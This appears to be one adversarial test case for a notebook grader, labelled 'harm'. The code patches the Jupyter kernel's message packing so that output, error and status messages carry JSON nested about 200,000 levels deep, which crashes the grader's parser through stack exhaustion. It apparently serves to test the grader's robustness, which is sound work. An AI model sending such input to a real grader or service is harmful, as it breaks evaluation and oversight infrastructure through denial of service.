# Tries: messages nested so deeply that parsing them ends the grader's stack.
# Kind: harm
# Stock: no

# %% last
kernel = get_ipython().kernel
session = kernel.session
true_pack = session.pack
for opening, closing in ((b"[", b"]"), (b'{"a":', b"}")):
    text = opening * 200_000 + b"1" + closing * 200_000
    session.pack = lambda value, text=text: text if value == {"deep": 1} else true_pack(value)
    for kind in ("display_data", "execute_result", "error", "status"):
        session.send(kernel.iopub_socket, kind, {"deep": 1}, parent=kernel.get_parent("shell"))
session.pack = true_pack
